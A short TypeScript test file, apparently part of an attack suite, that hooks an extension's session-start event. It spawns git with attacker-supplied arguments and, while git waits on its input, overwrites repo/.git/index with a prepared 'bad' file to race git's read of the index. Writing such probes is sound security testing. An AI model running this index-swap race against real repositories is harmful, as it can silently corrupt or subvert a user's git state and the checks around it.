import { attempt } from "./attack";
import { execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
export default (pi: any) =>
  pi.on("session_start", () =>
    attempt("exchanged", async () => {
      // Git reads its standard input before the index.
      const git = spawn("git", JSON.parse(process.env.ATTACK_ARGS!), { cwd: "repo" });
      let said = "";
      git.stdout.on("data", (chunk: Buffer) => (said += chunk));
      const closed = once(git, "close");
      await once(git, "spawn");
      execFileSync("cp", ["bad", "repo/.git/index"]);
      git.stdin.end(process.env.ATTACK_INPUT + "\n");
      await closed;
      return said;
    }),
  );
